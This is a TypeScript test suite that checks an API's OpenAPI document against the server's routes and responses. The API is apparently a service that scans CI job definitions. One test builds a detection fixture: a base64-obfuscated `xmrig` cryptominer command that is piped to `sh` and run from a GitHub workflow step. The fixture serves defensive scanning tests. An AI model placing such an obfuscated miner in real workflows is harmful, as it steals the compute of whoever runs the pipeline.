import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Compile } from 'typebox/compile';
import { ACTIONS } from '../model/action.ts';
import { PROVIDERS } from '../providers/registry.ts';
import { createApi } from './api.ts';
import { admin, createWorld, event, hookPath, jobEvent } from './api-world.test.ts';

type Json = { readonly [key: string]: Json } & readonly Json[] & string;

const { api, deps } = await createWorld();
const document = (await api.inject('/openapi.json')).json() as Json;

/** `GET /v1/decisions/:id` and so on, without HEAD and the routes that refuse a method. */
async function registeredRoutes(): Promise<string[]> {
  const routes: string[] = [];
  const another = createApi(deps);
  another.addHook('onRoute', ({ url, method, schema }) => {
    if (schema?.hide === true) return;
    for (const one of [method].flat()) if (one !== 'HEAD') routes.push(`${one} ${url}`);
  });
  await another.ready();
  return routes;
}

function documentedRoutes(): string[] {
  return Object.entries(document['paths'] ?? {}).flatMap(([url, methods]) =>
    Object.keys(methods).map(
      (method) => `${method.toUpperCase()} ${url.replace(/\{(\w+)\}/g, ':$1')}`,
    ),
  );
}

test('every route is documented, and every documented route exists', async () => {
  const registered = await registeredRoutes();
  assert.ok(registered.length > 10);
  assert.deepEqual(documentedRoutes().sort(), registered.sort());
});

test('the document is whole: ids are unique, references resolve, parameters are declared', () => {
  assert.match(document['openapi'] ?? '', /^3\.1\./);
  assert.ok(document['info']?.['title'] && document['info']['version']);
  const operationIds: string[] = [];
  for (const [path, methods] of Object.entries(document['paths'] ?? {})) {
    for (const operation of Object.values(methods)) {
      operationIds.push(operation['operationId'] ?? '');
      const names = [...path.matchAll(/\{(\w+)\}/g)].map(([, name]) => name);
      const declared = (operation['parameters'] ?? []).filter((one) => one['in'] === 'path');
      assert.deepEqual(
        declared.map((one) => one['name']),
        names,
        path,
      );
      assert.ok(operation['summary'] && operation['tags'], path);
      for (const [status, response] of Object.entries(operation['responses'] ?? {})) {
        assert.match(status, /^[2-5]\d\d$/);
        assert.ok(response['description'], `${path} ${status}`);
      }
    }
  }
  assert.equal(new Set(operationIds).size, operationIds.length);
  const references = [...JSON.stringify(document).matchAll(/"\$ref":"([^"]+)"/g)];
  assert.ok(references.length > 20);
  for (const [, reference = ''] of references) {
    const found = reference
      .slice(2)
      .split('/')
      .reduce<Json | undefined>((at, part) => at?.[part], document);
    assert.ok(found !== undefined, reference);
  }
});

test('every route of /v1 is documented with its key, and its errors as problems', () => {
  for (const [path, methods] of Object.entries(document['paths'] ?? {})) {
    for (const operation of Object.values(methods)) {
      const secured = (operation['security'] ?? []).length > 0;
      assert.equal(secured, path.startsWith('/v1/'), path);
      for (const [status, response] of Object.entries(operation['responses'] ?? {})) {
        if (!/^[45]/.test(status) || status === '406') continue;
        assert.deepEqual(Object.keys(response['content'] ?? {}), ['application/problem+json']);
      }
    }
  }
});

/** The schema of an answer, with references put in place. */
function answerSchema(path: string, method: string, status: number): object {
  const content = document['paths']?.[path]?.[method]?.['responses']?.[status]?.['content'];
  const [media] = Object.values(content ?? {});
  const schemas = document['components']?.['schemas'];
  const inlined = JSON.stringify(media?.['schema']).replaceAll(
    /\{"\$ref":"#\/components\/schemas\/(\w+)"\}/g,
    (_, name: string) => JSON.stringify(schemas?.[name]),
  );
  return JSON.parse(inlined);
}

test('what the server answers is what the document says', async () => {
  const post = (url: string, payload: object) =>
    api.inject({ method: 'POST', url, headers: admin, payload });
  const get = (url: string) => api.inject({ url, headers: admin });
  const decided = await post('/v1/decisions', jobEvent('o1', { subject: 'generic/miner' }));
  const answers = [
    ['/v1/events', 'post', await post('/v1/events', event('o2'))],
    ['/v1/events', 'post', await post('/v1/events', event('o2', { id: '' }))],
    ['/v1/decisions', 'post', decided],
    ['/v1/decisions', 'get', await get('/v1/decisions')],
    ['/v1/decisions/{id}', 'get', await get(`/v1/decisions/${decided.json().id}`)],
    ['/v1/decisions/{id}', 'get', await get('/v1/decisions/x')],
    ['/v1/keys', 'post', await post('/v1/keys', { name: 'n', scopes: ['read'] })],
    ['/v1/keys', 'get', await get('/v1/keys')],
    ['/healthz', 'get', await get('/healthz')],
    ['/readyz', 'get', await get('/readyz')],
  ] as const;
  for (const [path, method, answer] of answers) {
    const shape = Compile(answerSchema(path, method, answer.statusCode));
    assert.deepEqual(shape.Errors(answer.json()), [], `${method} ${path} ${answer.statusCode}`);
    assert.ok(!shape.Check('nothing of the kind'));
  }
});

test('a decision with findings in what is encoded and in other files is what it says', async () => {
  const mine = 'xmrig -o stratum+tcp://pool.example.org:3333';
  const hidden = `echo ${Buffer.from(mine).toString('base64')} | base64 -d | sh\n`;
  const steps = '    steps:\n      - run: sh ./mine.sh\n';
  const workflow = `on: push\njobs:\n  a:\n    runs-on: x\n${steps}`;
  const path = '.github/workflows/a.yml';
  const script = { path: 'mine.sh', text: hidden };
  const definitions = [
    { dialect: 'shell', files: [script] },
    { dialect: 'github', files: [{ path, text: workflow }, script] },
    { dialect: 'shell', files: [script, { path, text: workflow }] },
  ];
  const seen = new Set<string>();
  for (const [i, definition] of definitions.entries()) {
    const payload = jobEvent(`scanned-${i}`, { data: { project: 'p', definition } });
    const ask = { method: 'POST', url: '/v1/decisions', headers: admin, payload } as const;
    const decided = (await api.inject(ask)).json();
    const shape = Compile(answerSchema('/v1/decisions', 'post', 200));
    assert.deepEqual(shape.Errors(decided), []);
    const url = `/v1/decisions/${decided.id}`;
    const record = (await api.inject({ url, headers: admin })).json();
    const whole = Compile(answerSchema('/v1/decisions/{id}', 'get', 200));
    assert.deepEqual(whole.Errors(record), []);
    for (const name of decided.findings.flatMap(Object.keys)) seen.add(name);
    for (const name of Object.keys(record.scan)) seen.add(`scan.${name}`);
  }
  for (const name of ['encodedAt', 'via', 'scan.via']) assert.ok(seen.has(name), name);
});

test('what any hook of a provider answers is what the document says', async () => {
  const hooks = PROVIDERS.flatMap((provider) => Object.values(provider.hooks));
  assert.ok(hooks.length > 0);
  for (const status of [200, 406]) {
    const shape = Compile(answerSchema(hookPath, 'post', status));
    for (const hook of hooks) {
      for (const action of ACTIONS) {
        const { body } = hook.answer(action, 'dec_1');
        assert.deepEqual(shape.Errors(JSON.parse(body)), []);
      }
      assert.ok(!shape.Check({}));
    }
  }
});

test('an address that cannot be decoded is documented where there can be one', async () => {
  for (const [path, methods] of Object.entries(document['paths'] ?? {})) {
    if (!path.includes('{')) continue;
    for (const operation of Object.values(methods)) {
      assert.ok(operation['responses']?.['400'], path);
    }
  }
});

test('the event that the document shows is the event that is read', () => {
  const shape = Compile(answerless('Event'));
  assert.ok(shape.Check(jobEvent('e')));
  assert.ok(!shape.Check(jobEvent('e', { type: 'job.exploded' })));
  assert.ok(!shape.Check(jobEvent('e', { data: { vcpu: 'two' } })));
});

function answerless(name: string): object {
  const schema = document['components']?.['schemas']?.[name];
  assert.ok(schema !== undefined);
  return schema;
}
